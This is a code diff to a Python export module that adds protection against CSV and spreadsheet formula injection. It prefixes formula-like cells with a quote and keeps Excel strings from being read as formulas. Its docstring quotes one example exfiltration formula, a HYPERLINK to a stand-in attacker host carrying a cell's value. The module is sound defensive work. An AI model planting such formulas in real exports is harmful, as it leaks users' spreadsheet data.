@@ -1,12 +1,20 @@
-"""Tables to files: the profiles as CSV, the estate's four tables as an Excel workbook."""
+"""Tables to files: the profiles as CSV, the estate's four tables as an Excel workbook.
+
+Names come from whoever configures the platform, and a spreadsheet runs a cell that starts
+with `=` as a formula (`=HYPERLINK("http://evil.example/?x="&A1,"click")`). In `.xlsx`
+every string is written as a string, never a formula. A CSV file has no types: by default
+a value starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`
+(OWASP's advice on CSV injection), which spreadsheets show as text; `csv_safe=False`
+writes every value exactly as the platform holds it, for programs that read the file.
+"""
 
 from __future__ import annotations
 
 import os
-import re
 from pathlib import Path
 from typing import TYPE_CHECKING, Any
 
+from ..printable import printable
 from .attributes import redact_text
 
 if TYPE_CHECKING:
@@ -14,17 +22,41 @@ if TYPE_CHECKING:
 
     from ..estate import Estate
 
-__all__ = ["write_csv", "write_xlsx", "SHEETS"]
+__all__ = ["write_csv", "write_xlsx", "SHEETS", "FORMULA_PREFIXES", "csv_safe", "csv_safe_frame"]
 
 SHEETS = ("profiles", "channels", "partners", "responses")
-_EXCEL_BAD = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")
 _EXACT_IN_EXCEL = 2**53  # Excel keeps numbers as doubles
+FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
+"""First characters that make a spreadsheet read a CSV cell as a formula (OWASP)."""
 
 
-def write_csv(estate: Estate, path: str | os.PathLike[str]) -> Path:
-    """The profiles table (`estate.to_frame("profiles")`) as UTF-8 CSV, no index column."""
+def csv_safe(value: Any) -> Any:
+    """A CSV cell a spreadsheet shows as text: a string starting with a formula prefix
+    gets a leading `'`; anything else is returned unchanged."""
+    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
+        return "'" + value
+    return value
+
+
+def csv_safe_frame(frame: pandas.DataFrame) -> pandas.DataFrame:
+    """A copy of `frame` with `csv_safe` applied to every text column (lists as text)."""
+    import pandas as pd
+
+    frame = frame.copy()
+    for column in frame.columns:
+        series = frame[column]
+        if series.dtype == object or pd.api.types.is_string_dtype(series.dtype):
+            frame[column] = series.map(csv_safe)
+    return frame
+
+
+def write_csv(estate: Estate, path: str | os.PathLike[str], *, csv_safe: bool = True) -> Path:
+    """The profiles table (`estate.to_frame("profiles")`) as UTF-8 CSV, no index column;
+    `csv_safe`: formula-like values prefixed with `'` (see the module)."""
     path = Path(path)
     frame = _clean(estate.to_frame("profiles"), excel=False)
+    if csv_safe:
+        frame = csv_safe_frame(frame)
     frame.to_csv(path, index=False, encoding="utf-8")
     return path
 
@@ -45,8 +77,18 @@ def write_xlsx(estate: Estate, path: str | os.PathLike[str]) -> Path:
         for sheet in SHEETS:
             frame = _clean(estate.to_frame(sheet), excel=True)
             frame.to_excel(writer, sheet_name=sheet, index=False, freeze_panes=(1, 0))
+            _strings_stay_strings(writer.sheets[sheet])
             _fit_columns(writer.sheets[sheet], frame)
     return path
+
+
+def _strings_stay_strings(sheet: Any) -> None:
+    """openpyxl takes a string starting with `=` for a formula: make every such cell a
+    string again, so a name is shown, never run."""
+    for row in sheet.iter_rows():
+        for cell in row:
+            if cell.data_type == "f":
+                cell.data_type = "s"
 
 
 def _clean(frame: pandas.DataFrame, *, excel: bool) -> pandas.DataFrame:
@@ -71,7 +113,7 @@ def _clean(frame: pandas.DataFrame, *, excel: bool) -> pandas.DataFrame:
 def _text(value: Any, excel: bool) -> Any:
     if isinstance(value, str):
         value = redact_text(value)
-        return _EXCEL_BAD.sub("", value) if excel else value
+        return printable(value) if excel else value  # XML 1.0 refuses the rest
     if excel and isinstance(value, int) and not isinstance(value, bool):
         return str(value) if abs(value) >= _EXACT_IN_EXCEL else value
     return value
